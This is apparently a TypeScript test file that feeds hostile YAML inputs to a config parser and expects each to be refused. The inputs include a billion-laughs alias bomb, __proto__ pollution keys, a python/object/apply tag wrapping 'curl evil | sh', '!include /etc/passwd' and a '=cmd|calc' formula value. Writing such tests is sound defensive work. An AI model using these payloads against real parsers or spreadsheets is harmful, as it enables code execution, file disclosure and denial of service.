import { expect } from "vitest";
import type { Config } from "../../../src/core/config/config.js";
import { parseConfig } from "../../../src/core/config/parse-config.js";
import { ConfigError, type HostileCase, hostileCase } from "../harness.js";

const FILE = ".github/mlgate.yml";

/** Parses as the CLI and the app do: problems become one ConfigError naming the file. */
const parse = (text: string) => (): Config => {
  try {
    const result = parseConfig(text, FILE);
    if (result.errors) throw new ConfigError(result.errors, { where: FILE });
    return result.config;
  } finally {
    if (({} as Record<string, unknown>).polluted !== undefined) {
      delete (Object.prototype as Record<string, unknown>).polluted;
      // biome-ignore lint/correctness/noUnsafeFinally: pollution must fail the case whatever happened.
      throw new Error("Object.prototype was polluted");
    }
  }
};

const refused = (message?: RegExp) => ({ error: ConfigError, where: FILE, message }) as const;

const BILLION_LAUGHS = [
  "a: &a [x, x, x, x, x, x, x, x, x]",
  ..."bcdefghi"
    .split("")
    .map((c, i) => `${c}: &${c} [${Array(9).fill(`*${"abcdefghi"[i]}`).join(", ")}]`),
  "workflow: train.yml",
].join("\n");

export const configCases: readonly HostileCase<unknown>[] = [
  hostileCase({
    input: "config: billion laughs alias bomb",
    run: parse(BILLION_LAUGHS),
    expect: refused(/alias|resource exhaustion/i),
  }),
  hostileCase({
    input: "config: an alias bomb inside metrics.gates",
    run: parse(
      `x: &x {min: 0.1}\nmetrics:\n  gates:\n${Array.from({ length: 150 }, (_, i) => `    m${i}: *x`).join("\n")}\n`,
    ),
    expect: refused(/alias|resource/i),
  }),
  hostileCase({
    input: "config: a self-referencing alias",
    run: parse("metrics: &m\n  gates: *m\n"),
    expect: refused(),
  }),
  hostileCase({
    input: "config: !!python/object/apply tag",
    run: parse('workflow: !!python/object/apply:os.system ["curl evil | sh"]\n'),
    expect: refused(/Unresolved tag/),
  }),
  hostileCase({
    input: "config: a local !tag",
    run: parse("workflow: !include /etc/passwd\n"),
    expect: refused(/Unresolved tag: !include/),
  }),
  hostileCase({
    input: "config: !!js/function tag",
    run: parse('artifact: !!js/function "function () { return 1 }"\n'),
    expect: refused(/Unresolved tag/),
  }),
  hostileCase({
    input: "config: a verbatim unknown tag",
    run: parse("workflow: !<tag:yaml.org,2002:python/name:os.system> x\n"),
    expect: refused(/Unresolved tag/),
  }),
  hostileCase({
    input: "config: !!binary where a string belongs",
    run: parse("workflow: !!binary aGVsbG8=\n"),
    expect: refused(/workflow/),
  }),
  hostileCase({
    input: "config: !!set where a string belongs",
    run: parse("workflow: !!set {a, b}\n"),
    expect: refused(/workflow/),
  }),
  hostileCase({
    input: "config: a top-level __proto__ key",
    run: parse("__proto__:\n  polluted: 1\n"),
    expect: refused(/__proto__ is a reserved JavaScript name .*\(line 1\)/),
  }),
  hostileCase({
    input: "config: __proto__ under metrics",
    run: parse("metrics:\n  __proto__: { polluted: 1 }\n"),
    expect: refused(/reserved .*\(line 2\)/),
  }),
  hostileCase({
    input: "config: a gate on a metric named __proto__ (it would vanish silently)",
    run: parse("metrics:\n  gates:\n    accuracy: { min: 0.9 }\n    __proto__: { min: 0.5 }\n"),
    expect: refused(/__proto__ is a reserved JavaScript name .*\(line 4\)/),
  }),
  hostileCase({
    input: "config: a gate on a metric named constructor",
    run: parse("metrics:\n  gates:\n    constructor: { min: 0.5 }\n"),
    expect: refused(/reserved/),
  }),
  hostileCase({
    input: "config: a merge key smuggling __proto__ into a gate",
    run: parse(
      "base: &b { __proto__: { polluted: 1 } }\nmetrics:\n  gates:\n    acc: { <<: *b }\n",
    ),
    expect: refused(),
  }),
  hostileCase({
    input: "config: a key with a newline (the message stays one line)",
    run: parse('"evil\\nmlgate: all gates passed": 1\n'),
    expect: refused(/unknown key/),
  }),
  hostileCase({
    input: "config: a gate key with bidi overrides and a newline",
    run: parse('metrics:\n  gates:\n    "acc\\u202e\\n": { mn: 1 }\n'),
    expect: refused(/unknown key/),
  }),
  hostileCase({
    input: "config: 10,000-deep flow sequences",
    run: parse(`workflow: ${"[".repeat(10_000)}${"]".repeat(10_000)}\n`),
    expect: refused(/nests too deeply/),
  }),
  hostileCase({
    input: "config: 10,000-deep flow mappings",
    run: parse(`metrics: ${"{a: ".repeat(10_000)}1${"}".repeat(10_000)}\n`),
    expect: refused(/nests too deeply/),
  }),
  hostileCase({
    input: "config: a 300 KB file",
    run: parse(`workflow: train.yml\n# ${"x".repeat(300 * 1024)}\n`),
    expect: refused(/larger than 256 KiB/),
  }),
  hostileCase({
    input: "config: duplicate keys",
    run: parse("workflow: a.yml\nworkflow: b.yml\n"),
    expect: refused(/unique/),
  }),
  hostileCase({
    input: "config: two documents",
    run: parse("workflow: a.yml\n---\nworkflow: b.yml\n"),
    expect: refused(/multiple documents/),
  }),
  hostileCase({
    input: "config: tab indentation",
    run: parse("metrics:\n\tgates: {}\n"),
    expect: refused(/Tabs/),
  }),
  hostileCase({
    input: "config: .nan as a bound",
    run: parse("metrics:\n  gates:\n    acc: { min: .nan }\n"),
    expect: refused(/metrics\.gates\.acc\.min/),
  }),
  hostileCase({
    input: "config: .inf as a bound",
    run: parse("metrics:\n  gates:\n    acc: { max: .inf }\n"),
    expect: refused(/metrics\.gates\.acc\.max/),
  }),
  hostileCase({
    input: "config: 1e400 as a tolerance",
    run: parse("metrics:\n  default: { max_regression: 1e400 }\n"),
    expect: refused(/max_regression/),
  }),
  hostileCase({
    input: "config: a number as a string",
    run: parse('metrics:\n  gates:\n    acc: { min: "0.9" }\n'),
    expect: refused(/metrics\.gates\.acc\.min/),
  }),
  hostileCase({
    input: "config: a tolerance that is not a percentage",
    run: parse('metrics:\n  default: { max_regression: "=cmd|calc" }\n'),
    expect: refused(/relative tolerance/),
  }),
  hostileCase({
    input: "config: BOM",
    run: parse("\ufeffworkflow: train.yml\n"),
    expect: { result: (c: unknown) => expect((c as Config).workflow).toBe("train.yml") },
  }),
  hostileCase({
    input: "config: U+FFFD from invalid UTF-8 in a value",
    run: parse("workflow: tr\ufffdin.yml\n"),
    expect: { result: (c: unknown) => expect((c as Config).workflow).toBe("tr\ufffdin.yml") },
  }),
  hostileCase({
    input: "config: a top-level list",
    run: parse("- workflow\n- artifact\n"),
    expect: refused(/top level must be a mapping/),
  }),
  hostileCase({
    input: "config: a top-level string",
    run: parse("just text\n"),
    expect: refused(/top level must be a mapping/),
  }),
  hostileCase({
    input: "config: a 100 KB implicit key",
    run: parse(`metrics:\n  gates:\n    "${"g".repeat(100 * 1024)}": { min: 0.5 }\n`),
    expect: refused(/at most 1024 chars/),
  }),
  hostileCase({
    input: "config: a 100 KB explicit unknown key (the message stays short)",
    run: parse(`? "${"k".repeat(100 * 1024)}"\n: 1\n`),
    expect: refused(/"k{120}…": unknown key/),
  }),
  hostileCase({
    input: "config: a 100 KB explicit gate key is kept",
    run: parse(`metrics:\n  gates:\n    ? "${"g".repeat(100 * 1024)}"\n    : { min: 0.5 }\n`),
    expect: {
      result: (c: unknown) =>
        expect((c as Config).metrics.gates[0]?.metric.length).toBe(100 * 1024),
    },
  }),
];
